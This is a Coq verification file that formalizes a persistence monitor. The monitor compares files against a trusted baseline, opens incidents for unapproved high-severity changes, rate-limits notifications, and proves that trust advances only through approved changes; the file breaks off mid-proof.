(* ===== verification/MonitorPersistence.v ===== *)
(** * Monitoring persistence (src/application/use-cases/MonitorPersistence.ts)

    The comparison of the system with its last trusted snapshot, and the conservative
    advance of trust. The object's only field is the notification budget; everything else
    is a port over the world [W]. *)

From S2P Require Import Prelude JsString JsMap NodePath Paths Values SensitivePaths Entities Ports.
From S2P Require Import Rules Notification.

Module MonitorPersistence.
Import BaselineChange.

(** ** The data of the ports *)

Record BaselineEntry := mkBaselineEntry { entry_path : AbsolutePath; hash : ContentHash; recordedAt : Z }.
#[global] Instance BaselineEntry_eq_dec : EqDecision BaselineEntry.
Proof. solve_decision. Defined.
Definition entry_key (e : BaselineEntry) : string := AbsolutePath.value (entry_path e).

Inductive PersistenceIncidentState := pending_state | quarantined_state.
#[global] Instance PersistenceIncidentState_eq_dec : EqDecision PersistenceIncidentState.
Proof. solve_decision. Defined.
Record PersistenceIncident := mkIncident {
  incident_id : string;
  incident_decisionKey : string;
  incident_subject : string;
  incident_ruleIds : list string;
  incident_severity : string;
  incident_state : PersistenceIncidentState;
  incident_previousHash : option string;
  incident_currentHash : option string;
  firstSeenAt : Z;
  lastSeenAt : Z;
  occurrences : Z
}.

Inductive PauseState := pause_inactive | pause_active (until : Z) | pause_expired (until : Z) | pause_invalid (reason : string).

Record MonitorPersistenceOutcome := mkOutcome {
  exitCode : Z;
  changes_ : nat;
  findings_ : nat;
  pending_ : nat;
  notifications_ : nat
}.

(** ** Building the changes *)

Section pure.
(** The engine's collation of two strings, as "not after". *)
Context (localeLeb : string → string → bool).

(** What differs between two snapshots: for each entry of the current one that is new or
    has another hash, and each entry of the previous one that is gone, the two sides. *)
Definition descriptors (previousEntries currentEntries : list BaselineEntry) :
    list (option BaselineEntry * option BaselineEntry) :=
  let previous := JsMap.of_list entry_key previousEntries in
  let current := JsMap.of_list entry_key currentEntries in
  omap (λ after,
    match JsMap.get previous (entry_key after) with
    | Some before => if ContentHash.equals (hash before) (hash after) then None
                     else Some (Some before, Some after)
    | None => Some (None, Some after)
    end) currentEntries
  ++ omap (λ before,
       if JsMap.has current (entry_key before) then None else Some (Some before, None)) previousEntries.

(** The change of a descriptor, given the content that was read. *)
Definition change_of (ctx : PathContext) (sandbox : bool) (d : option BaselineEntry * option BaselineEntry)
    (text : option string) : option BaselineChange :=
  match d with
  | (None, None) => None
  | (before, after) =>
      match after, before with
      | Some e, _ | None, Some e =>
          Some (mkChange (entry_path e)
                  (match before, after with None, _ => created | _, None => deleted | _, _ => modified end)
                  (hash <$> before) (hash <$> after) text ctx sandbox)
      | None, None => None
      end
  end.

Definition sort_changes : list BaselineChange → list BaselineChange :=
  sort_by (λ l r, localeLeb (AbsolutePath.value (path l)) (AbsolutePath.value (path r))).

(** ** Decisions *)

Definition matchingDecision (decisions : list (string * Decision)) (f : Finding) : option Decision :=
  match JsMap.get decisions (Finding.decisionKey f) with
  | None => None
  | Some d =>
      if negb (dsubject d =? Finding.subject f)%string
         || negb (str_includes (ruleIds d) (RuleId.value (Finding.ruleId f)))
      then None else Some d
  end.

Definition isDurablyAllowed (d : option Decision) (f : Finding) : bool :=
  match d with Some d => bool_decide (verdict d = allow) | None => false end
  && bool_decide (is_Some (Finding.contentHash f)).

Definition incidentId (f : Finding) : string :=
  RuleId.value (Finding.ruleId f) +:+ "@" +:+ Finding.subject f +:+ "@" +:+ Finding.decisionKey f.

Definition groupBySubject (fs : list Finding) : list (string * list Finding) :=
  fold_left (λ m f,
    JsMap.set m (Finding.subject f)
      ((match JsMap.get m (Finding.subject f) with Some l => l | None => [] end) ++ [f])) fs [].

(** ** Advancing trust *)

Definition applyTrustedChange (baseline : list (string * BaselineEntry)) (currentEntries : list BaselineEntry)
    (c : BaselineChange) : list (string * BaselineEntry) :=
  match find (λ e, (entry_key e =? AbsolutePath.value (path c))%string) currentEntries with
  | None => JsMap.delete baseline (AbsolutePath.value (path c))
  | Some e => JsMap.set baseline (AbsolutePath.value (path c)) e
  end.

Inductive Resolution := safe | accepted | still_pending.
#[global] Instance Resolution_eq_dec : EqDecision Resolution.
Proof. solve_decision. Defined.

Record Progress := mkProgress {
  nextIncidents : list PersistenceIncident;
  nextBaseline : list (string * BaselineEntry);
  resolution : list (string * Resolution)
}.

Definition MAX_SAFE_INTEGER : Z := 2 ^ 53 - 1.

Definition incident_of (incidentsById : list (string * PersistenceIncident)) (now : Z) (c : BaselineChange)
    (decision : option Decision) (f : Finding) : PersistenceIncident :=
  let existing := JsMap.get incidentsById (incidentId f) in
  mkIncident (incidentId f) (Finding.decisionKey f) (Finding.subject f) [RuleId.value (Finding.ruleId f)]
    (Severity.name (Finding.severity f))
    (match decision with
     | Some d => if bool_decide (verdict d = deny) then quarantined_state else pending_state
     | None => pending_state
     end)
    (ContentHash.toString <$> previousHash c) (ContentHash.toString <$> currentHash c)
    (match existing with Some i => firstSeenAt i | None => now end) now
    (Z.min (match existing with Some i => occurrences i | None => 0 end + 1) MAX_SAFE_INTEGER).

Definition risky_findings (bySubject : list (string * list Finding)) (c : BaselineChange) : list Finding :=
  bfilter (λ f, Severity.isAtLeast (Finding.severity f) Severity.HIGH)
    (match JsMap.get bySubject (display c) with Some l => l | None => [] end).

(** One turn of the loop over the changes. *)
Definition resolve_one (bySubject : list (string * list Finding)) (decisions : list (string * Decision))
    (incidentsById : list (string * PersistenceIncident)) (currentEntries : list BaselineEntry) (now : Z)
    (p : Progress) (c : BaselineChange) : Progress :=
  let risky := risky_findings bySubject c in
  let approved := every (λ f, isDurablyAllowed (matchingDecision decisions f) f) risky in
  if (length risky =? 0) || approved then
    mkProgress (nextIncidents p) (applyTrustedChange (nextBaseline p) currentEntries c)
      (JsMap.set (resolution p) (display c) (if length risky =? 0 then safe else accepted))
  else
    mkProgress
      (nextIncidents p
       ++ map (λ f, incident_of incidentsById now c (matchingDecision decisions f) f)
            (bfilter (λ f, negb (isDurablyAllowed (matchingDecision decisions f) f)) risky))
      (nextBaseline p)
      (JsMap.set (resolution p) (display c) still_pending).

Definition resolve (bySubject : list (string * list Finding)) (decisions : list (string * Decision))
    (incidentsById : list (string * PersistenceIncident)) (previousEntries currentEntries : list BaselineEntry)
    (now : Z) (changes : list BaselineChange) : Progress :=
  fold_left (resolve_one bySubject decisions incidentsById currentEntries now) changes
    (mkProgress [] (JsMap.of_list entry_key previousEntries) []).

Definition sort_incidents : list PersistenceIncident → list PersistenceIncident :=
  sort_by (λ l r, localeLeb (incident_id l) (incident_id r)).
Definition sort_entries : list BaselineEntry → list BaselineEntry :=
  sort_by (λ l r, localeLeb (entry_key l) (entry_key r)).

Definition sameBaseline (previous next : list BaselineEntry) : bool :=
  if negb (length previous =? length next) then false
  else
    let hashes := JsMap.of_list entry_key previous in
    every (λ e, match JsMap.get hashes (entry_key e) with
                | Some h => ContentHash.equals (hash h) (hash e)
                | None => false
                end) next.

Definition sameIncidents (previous next : list PersistenceIncident) : bool :=
  if negb (length previous =? length next) then false
  else every (λ pn, (incident_id pn.1 =? incident_id pn.2)%string
                    && bool_decide (incident_state pn.1 = incident_state pn.2)
                    && (occurrences pn.1 =? occurrences pn.2)%Z && (lastSeenAt pn.1 =? lastSeenAt pn.2)%Z)
         (zip previous next).
End pure.

(** ** The use case *)

(** What the monitor depends on; [scan] is the scanner with the configured switches. *)
Record Dependencies (W : Type) := mkDependencies {
  read_file : AbsolutePath → M W (option string);
  load_baseline : M W (list BaselineEntry);
  save_baseline : list BaselineEntry → M W unit;
  decisions : DecisionStore W;
  load_pending : M W (list PersistenceIncident);
  save_pending : list PersistenceIncident → M W unit;
  read_pause : M W PauseState;
  collect : PathContext → M W (list BaselineEntry);
  scan : list BaselineChange → result ScanReport;
  notify : Finding → M W unit;
  audit : AuditLog W;
  clock : Clock W;
  monitor_context : PathContext;
  monitor_sandboxActive : bool;
  notificationPolicy : NotificationPolicy
}.
Arguments read_file {W} _ _. Arguments load_baseline {W} _. Arguments save_baseline {W} _ _.
Arguments decisions {W} _. Arguments load_pending {W} _. Arguments save_pending {W} _ _.
Arguments read_pause {W} _. Arguments collect {W} _ _. Arguments scan {W} _ _.
Arguments notify {W} _ _. Arguments audit {W} _. Arguments clock {W} _.
Arguments monitor_context {W} _. Arguments monitor_sandboxActive {W} _. Arguments notificationPolicy {W} _.

Section monitor.
Context (localeLeb : string → string → bool) {W : Type} (deps : Dependencies W).

Abbreviation Mon A := (M (NotificationBudget * W) A).

Definition log (at_ : Z) (event : string) (details : list (string * Detail)) : Mon unit :=
  in_world (append_ (audit deps) (mkEntry at_ event details)).

Definition findingDetails (f : Finding) : list (string * Detail) :=
  [("rule", DText (RuleId.value (Finding.ruleId f))); ("subject", DText (Finding.subject f));
   ("severity", DText (Severity.name (Finding.severity f)));
   ("sandboxActive", DBool (monitor_sandboxActive deps))].

(** The contents are read for the changes that have a current side. *)
Definition buildChanges (previousEntries currentEntries : list BaselineEntry) : Mon (list BaselineChange) :=
  let* changes := mfold (λ acc d,
    let* text := match snd d with
                 | None => mok None
                 | Some after => in_world (read_file deps (entry_path after))
                 end in
    mok (match change_of (monitor_context deps) (monitor_sandboxActive deps) d text with
         | Some c => acc ++ [c] | None => acc end)) [] (descriptors previousEntries currentEntries) in
  mok (sort_changes localeLeb changes).

(** One finding of the report: its audit entries and its notification. *)
Definition report_one (now : Z) (pause : PauseState) (decisionsByKey : list (string * Decision))
    (resolution : list (string * Resolution)) (sent : nat) (f : Finding) : Mon nat :=
  let state := match JsMap.get resolution (Finding.subject f) with Some r => r | None => safe end in
  let high := Severity.isAtLeast (Finding.severity f) Severity.HIGH in
  let decision := matchingDecision decisionsByKey f in
  let* _ := log now "persistence.change" (findingDetails f) in
  let* _ :=
    if bool_decide (state = still_pending) && high then
      log now
        (if isDurablyAllowed decision f then "persistence.finding.accepted"
         else match decision with
              | Some d => if bool_decide (verdict d = deny) then "persistence.quarantined" else "persistence.pending"
              | None => "persistence.pending"
              end)
        (findingDetails f ++ [("decisionKey", DText (Finding.decisionKey f))])
    else if bool_decide (state = accepted) && high then
      log now "persistence.accepted" (findingDetails f ++ [("decisionKey", DText (Finding.decisionKey f))])
    else mok tt in
  let* suppression := in_local (λ b,
    suppressNotification (notificationPolicy deps)
      (match pause with pause_active _ => true | _ => false end)
      (high && (bool_decide (state = accepted) || isDurablyAllowed decision f))
      b (Finding.decisionKey f) now) in
  match suppression with
  | Some why =>
      let* _ := log now "persistence.notification.suppressed"
        (findingDetails f ++
         [("reason", DText (match why with
                            | paused => "paused"
                            | approved => "approved"
                            | claimed NotificationBudget.duplicate => "duplicate"
                            | claimed NotificationBudget.rate_limit => "rate-limit"
                            end))]) in
      mok sent
  | None =>
      (* the whole block is guarded: a failure to notify, or to log the success, is logged *)
      λ s, match (let* _ := in_world (notify deps f) in mok (S sent)) s with
           | (s', Ok sent') =>
               match log now "persistence.notification.sent" (findingDetails f) s' with
               | (s'', Ok _) => (s'', Ok sent')
               | (s'', Err e) =>
                   (let* _ := log now "persistence.notification.failed"
                      (findingDetails f ++ [("reason", DText (exn_message e))]) in mok sent') s''
               end
           | (s', Err e) =>
               (let* _ := log now "persistence.notification.failed"
                  (findingDetails f ++ [("reason", DText (exn_message e))]) in mok sent) s'
           end
  end.

Definition execute : Mon MonitorPersistenceOutcome :=
  let* t := in_world (now (clock deps)) in
  let* previousEntries := in_world (load_baseline deps) in
  let* currentEntries := in_world (collect deps (monitor_context deps)) in
  let* storedDecisions := in_world (all_decisions (decisions deps)) in
  let* storedIncidents := in_world (load_pending deps) in
  let* pauseState := in_world (read_pause deps) in
  let* changes := buildChanges previousEntries currentEntries in
  let* report := mlift (scan deps changes) in
  let decisionsByKey := JsMap.of_list dkey storedDecisions in
  let p := resolve (groupBySubject (ScanReport.findings report)) decisionsByKey
             (JsMap.of_list incident_id storedIncidents) previousEntries currentEntries t changes in
  let orderedIncidents := sort_incidents localeLeb (nextIncidents p) in
  let* _ := if sameIncidents storedIncidents orderedIncidents then mok tt
            else in_world (save_pending deps orderedIncidents) in
  let trustedEntries := sort_entries localeLeb (JsMap.values (nextBaseline p)) in
  let* _ := if sameBaseline previousEntries trustedEntries then mok tt
            else in_world (save_baseline deps trustedEntries) in
  let* _ := match pauseState with
            | pause_invalid why => log t "pause.invalid" [("reason", DText why)]
            | _ => mok tt
            end in
  let* sent := mfold (report_one t pauseState decisionsByKey (resolution p)) 0 (ScanReport.findings report) in
  mok (mkOutcome (if (0 <? length orderedIncidents)%nat then 2 else 0)%Z (length changes)
         (length (ScanReport.findings report)) (length orderedIncidents) sent).
End monitor.

(** ** What a pass does to trust *)

(** A finding the user has approved for good: the decision stored last under its key
    allows it, is about the same subject and rule, and the file still has content. *)
Definition durably_allowed (stored : list Decision) (f : Finding) : Prop :=
  ∃ d, JsMap.get (JsMap.of_list dkey stored) (Finding.decisionKey f) = Some d
    ∧ dsubject d = Finding.subject f ∧ RuleId.value (Finding.ruleId f) ∈ ruleIds d
    ∧ verdict d = allow ∧ is_Some (Finding.contentHash f).

(** A change nothing risky is known of, or whose every risky finding is approved. *)
Definition trusted_change (stored : list Decision) (fs : list Finding) (c : BaselineChange) : Prop :=
  ∀ f, f ∈ fs → Finding.subject f = display c →
    Severity.isAtLeast (Finding.severity f) Severity.HIGH = true → durably_allowed stored f.

Section trust.
Lemma allowed_iff stored f :
  isDurablyAllowed (matchingDecision (JsMap.of_list dkey stored) f) f = true ↔ durably_allowed stored f.
Proof.
  unfold isDurablyAllowed, matchingDecision, durably_allowed.
  destruct (JsMap.get _ _) as [d|]; [|naive_solver].
  destruct (dsubject d =? Finding.subject f)%string eqn:E1; cbn [negb orb]; bool_prop; [|naive_solver].
  destruct (str_includes _ _) eqn:E2; cbn [negb].
  - rewrite andb_true_iff, !bool_decide_eq_true. apply str_includes_true in E2.
    split; [intros [? ?]; by exists d|intros (? & [= <-] & ?); naive_solver].
  - split; [done|]. intros (? & [= <-] & _ & Hin & _). apply str_includes_true in Hin. congruence.
Qed.

Lemma group_get fs subject :
  match JsMap.get (groupBySubject fs) subject with Some l => l | None => [] end
  = bfilter (λ f, (Finding.subject f =? subject)%string) fs.
Proof.
  induction fs as [|f fs IH] using rev_ind; [done|].
  unfold groupBySubject. rewrite fold_left_app, List.filter_app. cbn [fold_left bfilter].
  fold (groupBySubject fs). rewrite JsMap.get_set, <-IH.
  destruct (Finding.subject f =? subject)%string eqn:E; [|by rewrite app_nil_r].
  by apply String.eqb_eq in E as ->.
Qed.

Lemma trusted_iff stored fs c :
  let risky := risky_findings (groupBySubject fs) c in
  (length risky =? 0)
  || every (λ f, isDurablyAllowed (matchingDecision (JsMap.of_list dkey stored) f) f) risky = true
  ↔ trusted_change stored fs c.
Proof.
  intros risky. assert (∀ f, f ∈ risky ↔ f ∈ fs ∧ Finding.subject f = display c
    ∧ Severity.isAtLeast (Finding.severity f) Severity.HIGH = true) as Hin.
  { intros f. subst risky. unfold risky_findings. rewrite group_get, !elem_of_bfilter, String.eqb_eq. tauto. }
  transitivity (every (λ f, isDurablyAllowed (matchingDecision (JsMap.of_list dkey stored) f) f) risky = true).
  { rewrite orb_true_iff. split; [|by right]. intros [E|?]; [|done]. by destruct risky. }
  rewrite every_true. unfold trusted_change. setoid_rewrite Hin. setoid_rewrite allowed_iff. naive_solver.
Qed.

Lemma every_trusted_dec stored fs c : trusted_change stored fs c ∨ ¬ trusted_change stored fs c.
Proof. rewrite <-trusted_iff. cbv zeta. destruct (_ || _); auto. Qed.

Section resolve.
Context (stored : list Decision) (fs : list Finding) (incidents : list (string * PersistenceIncident)).
Context (previous current : list BaselineEntry) (t : Z).

Abbreviation resolved changes :=
  (resolve (groupBySubject fs) (JsMap.of_list dkey stored) incidents previous current t changes).

Lemma resolve_snoc changes c :
  resolved (changes ++ [c])
  = resolve_one (groupBySubject fs) (JsMap.of_list dkey stored) incidents current t (resolved changes) c.
Proof. unfold resolve. by rewrite fold_left_app. Qed.

Definition keyed (m : list (string * BaselineEntry)) : Prop :=
  NoDup m.*1 ∧ ∀ k e, (k, e) ∈ m → entry_key e = k.

Lemma keyed_set m e k : keyed m → entry_key e = k → keyed (JsMap.set m k e).
Proof.
  intros [Hnd Hk] He. split; [by apply JsMap.set_nodup|]. intros k' e' Hin.
  apply (JsMap.get_elem _ _ _ (JsMap.set_nodup m k e Hnd)) in Hin. rewrite JsMap.get_set in Hin.
  revert Hin. destruct (k =? k')%string eqn:E.
  - apply String.eqb_eq in E. intros [= ->]. congruence.
  - intros Hg. apply Hk. by apply JsMap.get_elem.
Qed.

Lemma keyed_delete m k : keyed m → keyed (JsMap.delete m k).
Proof.
  intros [Hnd Hk]. split; [by apply JsMap.delete_nodup|].
  intros k' e' [Hin _]%elem_of_bfilter. by apply Hk.
Qed.

Lemma keyed_apply m c : keyed m → keyed (applyTrustedChange m current c).
Proof.
  intros Hm. unfold applyTrustedChange. destruct (find _ current) as [e|] eqn:E.
  - apply find_spec in E as [_ E%String.eqb_eq]. by apply keyed_set.
  - by apply keyed_delete.
Qed.

Lemma keyed_of_list l : keyed (JsMap.of_list entry_key l).
Proof.
  split; [apply JsMap.of_list_nodup|]. intros k e Hin.
  apply JsMap.get_elem in Hin; [|apply JsMap.of_list_nodup]. by apply JsMap.get_of_list_some in Hin as [_ ?].
Qed.

Lemma get_apply m c k :
  JsMap.get (applyTrustedChange m current c) k
  = if (AbsolutePath.value (path c) =? k)%string then find (λ e, (entry_key e =? k)%string) current
    else JsMap.get m k.
Proof.
  unfold applyTrustedChange. destruct (find _ current) as [e|] eqn:E;
    rewrite ?JsMap.get_set, ?JsMap.get_delete;
    destruct (AbsolutePath.value (path c) =? k)%string eqn:Ek; try done;
    by apply String.eqb_eq in Ek as <-.
Qed.

Lemma resolve_keyed changes : keyed (nextBaseline (resolved changes)).
Proof.
  induction changes as [|c changes IH] using rev_ind; [apply keyed_of_list|].
  rewrite resolve_snoc. unfold resolve_one. case_if; [by apply keyed_apply|done].
Qed.

(** An entry moves only through a trusted change of its path. *)
Lemma resolve_conservative changes k :
  let nb := nextBaseline (resolved changes) in
  JsMap.get nb k = JsMap.get (JsMap.of_list entry_key previous) k
  ∨ ∃ c, c ∈ changes ∧ AbsolutePath.value (path c) = k ∧ trusted_change stored fs c
      ∧ JsMap.get nb k = find (λ e, (entry_key e =? k)%string) current.
Proof.
  induction changes as [|c changes IH] using rev_ind; [by left|].
  rewrite resolve_snoc. unfold resolve_one. cbv zeta in IH |- *.
  destruct (_ || _) eqn:E; cbn [nextBaseline].
  - apply trusted_iff in E. rewrite get_apply.
    destruct (AbsolutePath.value (path c) =? k)%string eqn:Ek.
    + apply String.eqb_eq in Ek. right. exists c. set_solver.
    + destruct IH as [?|(c' & ? & ?)]; [by left|]. right. exists c'. set_solver.
  - destruct IH as [?|(c' & ? & ?)]; [by left|]. right. exists c'. set_solver.
Qed.

(** Incidents are opened exactly for the changes that stay untrusted. *)
Lemma resolve_incidents changes :
  nextIncidents (resolved changes) ≠ [] ↔ ∃ c, c ∈ changes ∧ ¬ trusted_change stored fs c.
Proof.
  induction changes as [|c changes IH] using rev_ind; [set_solver|].
  rewrite resolve_snoc. unfold resolve_one. cbv zeta. destruct (_ || _) eqn:E; cbn [nextIncidents].
  - apply trusted_iff in E. rewrite IH. set_solver.
  - assert (¬ trusted_change stored fs c) as Hn by (rewrite <-trusted_iff; cbv zeta; by rewrite E).
    split; [intros _; exists c; set_solver|]. intros _ [_ Hm]%app_nil. apply map_eq_nil in Hm.
    apply orb_false_iff in E as [_ E]. rewrite <-not_true_iff_false, every_true in E.
    destruct E. intros f Hf. destruct (isDurablyAllowed _ f) eqn:Ef; [done|].
    assert (f ∈ bfilter (λ f, negb (isDurablyAllowed (matchingDecision (JsMap.of_list dkey stored) f) f))
              (risky_findings (groupBySubject fs) c)) as Hin by (rewrite elem_of_bfilter, Ef; done).
    rewrite Hm in Hin. by apply elem_of_nil in Hin.
Qed.

(** ...and every trusted change moves it. *)
Lemma resolve_advances changes c k :
  c ∈ changes → AbsolutePath.value (path c) = k → trusted_change stored fs c →
  JsMap.get (nextBaseline (resolved changes)) k = find (λ e, (entry_key e =? k)%string) current.
Proof.
  induction changes as [|c' changes IH] using rev_ind; [set_solver|]. intros Hin Hk Hc.
  rewrite resolve_snoc. unfold resolve_one. cbv zeta. apply elem_of_app in Hin as [Hin|Hin].
  - destruct (_ || _); cbn [nextBaseline]; [|by apply IH].
    rewrite get_apply. destruct (_ =? k)%string; [done|by apply IH].
  - apply list_elem_of_singleton in Hin as ->. apply trusted_iff in Hc. cbv zeta in Hc. rewrite Hc.
    cbn [nextBaseline]. by rewrite get_apply, Hk, String.eqb_refl.
Qed.

(** The saved list is the map. *)
Lemma saved_keys (localeLeb : string → string → bool) changes :
  map entry_key (sort_entries localeLeb (JsMap.values (nextBaseline (resolved changes))))
  ≡ₚ (nextBaseline (resolved changes)).*1.
Proof.
  destruct (resolve_keyed changes) as [Hnd Hk]. unfold sort_entries.
  rewrite (Permutation_map entry_key (sort_by_perm _ _)). unfold JsMap.values. rewrite map_map.
  enough (map (λ kv, entry_key kv.2) (nextBaseline (resolved changes)) = (nextBaseline (resolved changes)).*1) as -> by done.
  apply map_ext_in. intros [k' e] Hin. apply Hk. by apply list_elem_of_In.
Qed.
Lemma saved_nodup (localeLeb : string → string → bool) changes :
  NoDup (map entry_key (sort_entries localeLeb (JsMap.values (nextBaseline (resolved changes))))).
Proof. rewrite saved_keys. apply resolve_keyed. Qed.
Lemma saved_get (localeLeb : string → string → bool) changes k :
  JsMap.get (JsMap.of_list entry_key (sort_entries localeLeb (JsMap.values (nextBaseline (resolved changes))))) k
  = JsMap.get (nextBaseline (resolved changes)) k.
Proof.
  destruct (resolve_keyed changes) as [Hnd Hk]. pose proof (saved_nodup localeLeb changes) as Hndl.
  set (nb := nextBaseline (resolved changes)) in *.
  set (l := sort_entries localeLeb (JsMap.values nb)) in *.
  assert (l ≡ₚ JsMap.values nb) as Hl by apply sort_by_perm.
  assert (∀ e, JsMap.get (JsMap.of_list entry_key l) k = Some e ↔ JsMap.get nb k = Some e) as Hiff.
  { intros e. rewrite <-(JsMap.get_elem nb k e Hnd). split.
    - intros [Hin He]%JsMap.get_of_list_some. rewrite Hl in Hin.
      apply JsMap.elem_of_values in Hin as [k' Hin]. rewrite <-He, (Hk k' e Hin). done.
    - intros Hin. rewrite <-(Hk k e Hin). apply JsMap.get_of_list_in; [done|].
      rewrite Hl. apply JsMap.elem_of_values. by exists k. }
  destruct (JsMap.get nb k) as [e|] eqn:E; [by apply Hiff|].
  destruct (JsMap.get (JsMap.of_list entry_key l) k) as [e|] eqn:E'; [|done].
  by destruct (Hiff e) as [H _]; specialize (H eq_refl).
Qed.
End resolve.
End trust.

(** ** The contract of the ports *)

(** What a pass can observe: the trusted entries, the decisions, the entries a snapshot
    finds, and the text a file has. *)
Record View := mkView {
  trusted : list BaselineEntry;
  known : list Decision;
  present : list BaselineEntry;
  text_of : AbsolutePath → option string
}.
(** The entry of a path in a snapshot. *)
Definition entry_at (l : list BaselineEntry) (k : string) : option BaselineEntry :=
  JsMap.get (JsMap.of_list entry_key l) k.
Definition with_trusted (v : View) (l : list BaselineEntry) : View :=
  mkView l (known v) (present v) (text_of v).

(** A read returns what is there unless it fails, saving the baseline replaces the trusted
    entries unless it fails, and nothing else changes any of them during a pass. *)
Class MonitorLaws {W : Type} (deps : Dependencies W) := {
  view : W → View;
  load_law : ∀ w, view (load_baseline deps w).1 = view w
               ∧ ∀ l, (load_baseline deps w).2 = Ok l → l = trusted (view w);
  decisions_law : ∀ w, view (all_decisions (decisions deps) w).1 = view w
               ∧ ∀ l, (all_decisions (decisions deps) w).2 = Ok l → l = known (view w);
  collect_law : ∀ w, view (collect deps (monitor_context deps) w).1 = view w
               ∧ ∀ l, (collect deps (monitor_context deps) w).2 = Ok l → l = present (view w);
  read_law : ∀ p w, view (read_file deps p w).1 = view w
               ∧ ∀ t, (read_file deps p w).2 = Ok t → t = text_of (view w) p;
  save_law : ∀ l w, view (save_baseline deps l w).1
               = match (save_baseline deps l w).2 with Ok _ => with_trusted (view w) l | Err _ => view w end;
  load_pending_keeps : ∀ w, view (load_pending deps w).1 = view w;
  save_pending_keeps : ∀ l w, view (save_pending deps l w).1 = view w;
  pause_keeps : ∀ w, view (read_pause deps w).1 = view w;
  notify_keeps : ∀ f w, view (notify deps f w).1 = view w;
  audit_keeps : ∀ e w, view (append_ (audit deps) e w).1 = view w;
  clock_keeps : ∀ w, view (now (clock deps) w).1 = view w
}.

Section execute.
Context (localeLeb : string → string → bool) {W : Type} (deps : Dependencies W) `{!MonitorLaws deps}.

(** The change a descriptor stands for. *)
Definition seen_change (v : View) (d : option BaselineEntry * option BaselineEntry) : option BaselineChange :=
  change_of (monitor_context deps) (monitor_sandboxActive deps) d
    (match snd d with Some after => text_of v (entry_path after) | None => None end).
Definition seen_changes (v : View) : list BaselineChange :=
  sort_changes localeLeb (omap (seen_change v) (descriptors (trusted v) (present v))).

(** The entries of [after] are those a pass may trust: the present entry (or none) where
    a trusted change says so, and the entry trusted before everywhere else. *)
Definition advanced (v : View) (report : ScanReport) (after : list BaselineEntry) : Prop :=
  ∀ k,
    (∀ c, c ∈ seen_changes v → AbsolutePath.value (path c) = k →
       trusted_change (known v) (ScanReport.findings report) c →
       hash <$> entry_at after k = hash <$> find (λ e, (entry_key e =? k)%string) (present v))
    ∧ ((∀ c, c ∈ seen_changes v → AbsolutePath.value (path c) = k →
          ¬ trusted_change (known v) (ScanReport.findings report) c) →
       entry_at after k = entry_at (trusted v) k).

Abbreviation Mon A := (M (NotificationBudget * W) A).
Definition at_ (v : View) (s : NotificationBudget * W) : Prop := view s.2 = v.

Lemma lift_returns {A} (m : M W A) v (P : A → Prop) :
  (∀ w, view w = v → view (m w).1 = v ∧ ∀ a, (m w).2 = Ok a → P a) → yields (at_ v) (in_world m) P.
Proof. intros Hm [b w] Hw. exact (Hm w Hw). Qed.
Lemma lift_keeps {A} (m : M W A) v : (∀ w, view (m w).1 = view w) → yields (at_ v) (in_world m) (λ _, True).
Proof. intros Hm. apply lift_returns. intros w <-. by rewrite Hm. Qed.

Lemma log_keeps t e d v : yields (at_ v) (log deps t e d) (λ _, True).
Proof. apply lift_keeps, audit_keeps. Qed.

Lemma report_one_keeps t pause ds res sent f v : yields (at_ v) (report_one deps t pause ds res sent f) (λ _, True).
Proof.
  unfold report_one. eapply yields_seq; [apply log_keeps|]. intros _ _.
  eapply yields_seq; [repeat case_if; first [apply log_keeps|by apply yields_ok]|]. intros _ _.
  eapply (yields_seq _ _ _ (λ _, True)); [by intros s Hs|]. intros [why|] _.
  { eapply yields_seq; [apply log_keeps|]. intros _ _. by apply yields_ok. }
  intros s Hs. split; [|done].
  assert (∀ n (k : nat) s', at_ v s' →
    at_ v ((let* _ := log deps t "persistence.notification.failed" n in mok k) s').1) as Hfail.
  { intros n k s' Hs'.
    assert (yields (at_ v) (let* _ := log deps t "persistence.notification.failed" n in mok k) (λ _, True)) as Hy
      by (eapply yields_seq; [apply log_keeps|intros _ _; by apply yields_ok]).
    by apply Hy. }
  destruct (lift_keeps (notify deps f) v (notify_keeps f) s Hs) as [Hn _].
  unfold mseq at 1. destruct (in_world (notify deps f) s) as [s1 [u|e]]; cbn [fst] in Hn; unfold mok at 1.
  - destruct (log_keeps t "persistence.notification.sent" (findingDetails deps f) v s1 Hn) as [Hl _].
    destruct (log deps t "persistence.notification.sent" (findingDetails deps f) s1) as [s2 [u'|e]]; [done|].
    by apply Hfail.
  - by apply Hfail.
Qed.

(** Reading the contents makes the changes the observation stands for. *)
Lemma buildChanges_yields v :
  yields (at_ v) (buildChanges localeLeb deps (trusted v) (present v)) (λ cs, cs = seen_changes v).
Proof.
  unfold buildChanges, seen_changes. eapply yields_seq.
  - apply (yields_fold _ _ _ (λ dn cs, cs = omap (seen_change v) dn)); [|done].
    intros dn d acc _ ->.
    apply (yields_seq _ _ _ (λ text, text = match snd d with Some a => text_of v (entry_path a) | None => None end)).
    { destruct (snd d); [|by apply yields_ok]. apply lift_returns. intros w <-. apply read_law. }
    intros text ->. apply yields_ok. rewrite omap_app. cbn [omap list_omap].
    fold (seen_change v d). destruct (seen_change v d); [done|by rewrite app_nil_r].
  - intros cs ->. by apply yields_ok.
Qed.

(** A baseline that is not saved because it is the same is the same up to the dates. *)
Lemma sameBaseline_entries before next k :
  NoDup (map entry_key next) → sameBaseline before next = true →
  hash <$> entry_at before k = hash <$> entry_at next k.
Proof.
  intros Hnd. unfold sameBaseline, entry_at. destruct (Nat.eqb_spec (length before) (length next)) as [Hl|]; [|done].
  cbn [negb]. rewrite every_true. intros Hall.
  assert (∀ e, e ∈ next → ∃ h, entry_at before (entry_key e) = Some h ∧ hash h = hash e) as Hs.
  { intros e He. unfold entry_at. specialize (Hall e He). cbv beta in Hall.
    destruct (JsMap.get _ _) as [h|]; [|done]. apply ContentHash.equals_spec in Hall. by exists h. }
  assert (map entry_key next ≡ₚ map entry_key before) as Hp.
  { apply submseteq_length_Permutation; [|rewrite !length_map; lia].
    apply NoDup_submseteq; [done|]. intros x (e & -> & He)%list_elem_of_fmap.
    destruct (Hs e He) as (h & [Hin Hk]%JsMap.get_of_list_some & _). rewrite <-Hk.
    apply list_elem_of_fmap. by exists h. }
  destruct (JsMap.get (JsMap.of_list entry_key next) k) as [e|] eqn:E.
  - apply JsMap.get_of_list_some in E as [He <-]. destruct (Hs e He) as (h & Hh & Hhash).
    unfold entry_at in Hh. rewrite Hh. cbn. by rewrite Hhash.
  - destruct (JsMap.get (JsMap.of_list entry_key before) k) as [h|] eqn:E'; [|done].
    apply JsMap.get_of_list_some in E' as [Hh <-].
    assert (entry_key h ∈ map entry_key next) as (e & He' & He)%list_elem_of_fmap
